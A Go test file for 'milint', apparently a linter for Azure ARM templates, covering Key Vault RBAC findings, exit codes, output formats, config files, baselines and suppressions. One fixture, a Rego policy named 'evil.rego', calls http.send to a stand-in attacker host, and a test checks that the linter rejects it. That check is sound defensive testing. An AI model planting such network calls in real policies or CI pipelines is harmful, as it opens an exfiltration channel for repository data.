package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// vaultTemplate is an ARM template with one vault; rbac sets
// enableRbacAuthorization, pad inserts blank lines before the resources
// (moving every finding down), extra is inserted in the vault's properties.
func vaultTemplate(rbac bool, pad int, extra string) string {
	v := "false"
	if rbac {
		v = "true"
	}
	return `{
  "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
  "contentVersion": "1.0.0.0",` + strings.Repeat("\n", pad) + `
  "resources": [
    {
      "type": "Microsoft.KeyVault/vaults",
      "apiVersion": "2023-07-01",
      "name": "kv",
      "location": "westeurope",
      "properties": {
        "tenantId": "[subscription().tenantId]",
        "sku": {"family": "A", "name": "standard"},` + extra + `
        "enableRbacAuthorization": ` + v + `
      }
    }
  ]
}
`
}

func repoWith(t *testing.T, files map[string]string) string {
	t.Helper()
	files[".git/HEAD"] = "ref: refs/heads/main\n"
	return writeFiles(t, files)
}

func TestExitCodes(t *testing.T) {
	pdir := writeFiles(t, map[string]string{"evil.rego": "# METADATA\n# title: T\n# description: D\n# custom:\n#   id: ACME009\n#   slug: evil\n#   severity: error\npackage milint.rules.acme009\n\ndeny contains f if {\n\tr := http.send({\"method\": \"GET\", \"url\": \"https://attacker.invalid\"})\n\tf := {\"msg\": r.body}\n}\n"})
	tests := []struct {
		name   string
		files  map[string]string
		args   []string
		code   int
		stderr string // substring
	}{
		{"clean", map[string]string{"t.json": vaultTemplate(true, 0, "")}, nil, 0, ""},
		{"finding at fail-on", map[string]string{"t.json": vaultTemplate(false, 0, "")}, nil, 1, ""},
		{"finding below fail-on", map[string]string{"t.json": vaultTemplate(false, 0, "")}, []string{"--fail-on", "error"}, 0, ""},
		{"fail-on never", map[string]string{"t.json": vaultTemplate(false, 0, "")}, []string{"--fail-on", "never"}, 0, ""},
		{"fail-on note", map[string]string{"t.json": vaultTemplate(false, 0, "")}, []string{"--fail-on", "note"}, 1, ""},
		{"bad flag", map[string]string{"t.json": vaultTemplate(true, 0, "")}, []string{"--no-such-flag"}, 2, "unknown flag"},
		{"bad fail-on", map[string]string{"t.json": vaultTemplate(true, 0, "")}, []string{"--fail-on", "sometimes"}, 2, "--fail-on"},
		{"bad format", map[string]string{"t.json": vaultTemplate(true, 0, "")}, []string{"--format", "xml"}, 2, "unknown format"},
		{"unparsable input", map[string]string{"t.json": vaultTemplate(true, 0, ""), "bad.json": `{"$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#", "resources": [`}, nil, 2, "bad.json:1:"},
		{"config unknown key", map[string]string{"t.json": vaultTemplate(true, 0, ""), ".milint.yaml": "fail-on: error\nrulez:\n  MI201: {enabled: false}\n"}, nil, 2, ".milint.yaml:2:1: unknown key \"rulez\""},
		{"config unknown rule", map[string]string{"t.json": vaultTemplate(true, 0, ""), ".milint.yaml": "rules:\n  MI999: {enabled: false}\n"}, nil, 2, ".milint.yaml:2:3: rules: unknown rule \"MI999\""},
		{"missing config named", map[string]string{"t.json": vaultTemplate(true, 0, "")}, []string{"-c", "nope.yaml"}, 2, "nope.yaml"},
		{"missing baseline", map[string]string{"t.json": vaultTemplate(true, 0, "")}, []string{"--baseline", "nope.json"}, 2, "--baseline"},
		{"forbidden policy", map[string]string{"t.json": vaultTemplate(true, 0, "")}, []string{"--policy", pdir}, 2, "evil.rego:11:7: milint forbids http.send in policies: a CI run on an untrusted pull request must not become an exfiltration channel"},
		{"unknown rule flag", map[string]string{"t.json": vaultTemplate(true, 0, "")}, []string{"--disable", "MI999"}, 2, "unknown rule"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := repoWith(t, tt.files)
			code, out, stderr := milint(t, dir, append([]string{"lint"}, tt.args...)...)
			if code != tt.code {
				t.Errorf("exit %d, want %d\nstdout %s\nstderr %s", code, tt.code, out, stderr)
			}
			if !strings.Contains(stderr+out, tt.stderr) {
				t.Errorf("output does not contain %q:\nstdout %s\nstderr %s", tt.stderr, out, stderr)
			}
		})
	}
}

func TestSeveralFormats(t *testing.T) {
	dir := repoWith(t, map[string]string{"infra/t.json": vaultTemplate(false, 0, "")})
	code, out, stderr := milint(t, dir, "--format", "sarif=out.sarif", "--format", "junit=out.xml", "--format", "github=gh.txt", "--format", "text", "infra")
	if code != 1 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if !strings.Contains(out, "infra/t.json:13:36: warning MI201 ") {
		t.Errorf("text on stdout: %q", out)
	}
	sarifOut, err := os.ReadFile(filepath.Join(dir, "out.sarif"))
	if err != nil {
		t.Fatal(err)
	}
	var log struct {
		Runs []struct {
			Results []struct {
				RuleID    string `json:"ruleId"`
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct{ URI string } `json:"artifactLocation"`
					} `json:"physicalLocation"`
				} `json:"locations"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(sarifOut, &log); err != nil {
		t.Fatal(err)
	}
	if len(log.Runs) != 1 || len(log.Runs[0].Results) != 1 || log.Runs[0].Results[0].RuleID != "MI201" ||
		log.Runs[0].Results[0].Locations[0].PhysicalLocation.ArtifactLocation.URI != "infra/t.json" {
		t.Errorf("sarif: %s", sarifOut)
	}
	if x, err := os.ReadFile(filepath.Join(dir, "out.xml")); err != nil || !strings.Contains(string(x), `<failure message="infra/t.json:13:36: `) {
		t.Errorf("junit: %s %v", x, err)
	}
	if g, err := os.ReadFile(filepath.Join(dir, "gh.txt")); err != nil || !strings.HasPrefix(string(g), "::warning file=infra/t.json,line=13,col=36,endLine=13,endColumn=41,title=MI201::") {
		t.Errorf("github: %s %v", g, err)
	}
	// -o FILE for a single format; paths in sarif stay repository-relative
	// when milint runs in a subdirectory.
	code, _, stderr = milint(t, filepath.Join(dir, "infra"), "-f", "sarif", "-o", "sub.sarif", ".")
	if code != 1 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	sub, err := os.ReadFile(filepath.Join(dir, "infra", "sub.sarif"))
	if err != nil || !strings.Contains(string(sub), `"uri": "infra/t.json"`) {
		t.Errorf("-o sarif from a subdirectory: %v %s", err, sub)
	}
}

func TestConfigFile(t *testing.T) {
	dir := repoWith(t, map[string]string{
		"infra/t.json":        vaultTemplate(false, 0, ""),
		"infra/vendor/v.json": vaultTemplate(false, 0, ""),
		".milint.yaml":        "rules:\n  MI201: {severity: note}\nexclude: [vendor/]\n",
	})
	// Found upward from a subdirectory; MI201 is a note, below fail-on.
	code, out, stderr := milint(t, filepath.Join(dir, "infra"), ".")
	if code != 0 || !strings.Contains(out, "t.json:13:36: note MI201") || strings.Contains(out, "vendor") {
		t.Errorf("exit %d\n%s%s", code, out, stderr)
	}
	// fail-on from the config; a flag wins over it.
	if err := os.WriteFile(filepath.Join(dir, ".milint.yaml"), []byte("fail-on: note\nrules:\n  MI201: {severity: note}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, _ := milint(t, dir, "infra/t.json"); code != 1 {
		t.Errorf("config fail-on note: exit %d", code)
	}
	if code, _, _ := milint(t, dir, "--fail-on", "error", "infra/t.json"); code != 0 {
		t.Errorf("--fail-on error over the config: exit %d", code)
	}
	// Disabled in a config named with -c.
	if err := os.WriteFile(filepath.Join(dir, "strict.yaml"), []byte("rules:\n  MI201: {enabled: false}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, out, _ := milint(t, dir, "-c", "strict.yaml", "infra/t.json"); code != 0 || strings.Contains(out, "MI201") {
		t.Errorf("-c with MI201 disabled: exit %d\n%s", code, out)
	}
}

func TestBaselineCLI(t *testing.T) {
	dir := repoWith(t, map[string]string{"t.json": vaultTemplate(false, 0, "")})
	code, _, stderr := milint(t, dir, "--write-baseline", "milint-baseline.json", ".")
	if code != 0 || !strings.Contains(stderr, "wrote 1 findings to baseline milint-baseline.json") {
		t.Fatalf("write-baseline: exit %d, stderr %s", code, stderr)
	}
	// The finding moves 20 lines down: still baselined.
	if err := os.WriteFile(filepath.Join(dir, "t.json"), []byte(vaultTemplate(false, 20, "")), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, stderr := milint(t, dir, "--baseline", "milint-baseline.json", "--format", "json", ".")
	if code != 0 {
		t.Fatalf("baselined: exit %d\n%s%s", code, out, stderr)
	}
	var doc struct {
		Findings []map[string]any `json:"findings"`
		Summary  map[string]int   `json:"summary"`
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Findings) != 0 || doc.Summary["suppressed"] != 1 {
		t.Errorf("baselined run: %s", out)
	}
	// --show-suppressed lists it, with "suppressed": true.
	_, out, _ = milint(t, dir, "--baseline", "milint-baseline.json", "--format", "json", "--show-suppressed", ".")
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Findings) != 1 || doc.Findings[0]["suppressed"] != true || doc.Findings[0]["line"] != 33.0 {
		t.Errorf("--show-suppressed: %s", out)
	}
	// A new finding is reported.
	vault2 := strings.Replace(vaultTemplate(false, 20, ""), `"name": "kv",`, `"name": "kv2",`, 1)
	if err := os.WriteFile(filepath.Join(dir, "t2.json"), []byte(vault2), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, _ = milint(t, dir, "--baseline", "milint-baseline.json", ".")
	if code != 1 || !strings.Contains(out, "t2.json:33:36: warning MI201") || strings.Contains(out, "t.json:33") {
		t.Errorf("new finding: exit %d\n%s", code, out)
	}
	// Refreshing the baseline keeps the old entry and adds the new one.
	code, _, stderr = milint(t, dir, "--baseline", "milint-baseline.json", "--write-baseline", "milint-baseline.json", ".")
	if code != 0 || !strings.Contains(stderr, "wrote 2 findings") {
		t.Errorf("refresh: exit %d, %s", code, stderr)
	}
	if code, out, _ := milint(t, dir, "--baseline", "milint-baseline.json", "."); code != 0 || !strings.Contains(out, "2 suppressed") {
		t.Errorf("after refresh: exit %d\n%s", code, out)
	}
}

func TestInlineSuppressionCLI(t *testing.T) {
	// JSONC comment on the line above the finding.
	suppressed := vaultTemplate(false, 0, "\n        // milint:ignore MI201 legacy vault, moving to RBAC in Q3")
	noReason := vaultTemplate(false, 0, "\n        // milint:ignore MI201")
	expired := vaultTemplate(false, 0, "\n        // milint:ignore MI201 until=2020-01-31 legacy")
	dir := repoWith(t, map[string]string{"a.json": suppressed, "b.json": noReason, "c.json": expired})

	code, out, stderr := milint(t, dir, "a.json")
	if code != 0 || !strings.Contains(out, "1 suppressed") {
		t.Errorf("with a reason: exit %d\n%s%s", code, out, stderr)
	}
	_, out, _ = milint(t, dir, "--show-suppressed", "a.json")
	if !strings.Contains(out, "a.json:14:36: suppressed warning MI201 ") || !strings.Contains(out, "(suppressed: legacy vault, moving to RBAC in Q3)") {
		t.Errorf("--show-suppressed text:\n%s", out)
	}
	_, out, _ = milint(t, dir, "--format", "json", "a.json")
	if strings.Contains(out, `"suppressed": true`) {
		t.Errorf("json lists suppressed findings without --show-suppressed:\n%s", out)
	}

	code, out, _ = milint(t, dir, "b.json")
	if code != 1 || !strings.Contains(out, "b.json:13:12: warning MI000 suppression of MI201 has no reason") || !strings.Contains(out, "b.json:14:36: warning MI201") {
		t.Errorf("without a reason: exit %d\n%s", code, out)
	}

	code, out, stderr = milint(t, dir, "c.json")
	if code != 1 || !strings.Contains(out, "c.json:14:36: warning MI201") ||
		!strings.Contains(stderr, "c.json:13:12: note: suppression of MI201 expired on 2020-01-31 and no longer applies") {
		t.Errorf("expired: exit %d\n%s%s", code, out, stderr)
	}
}
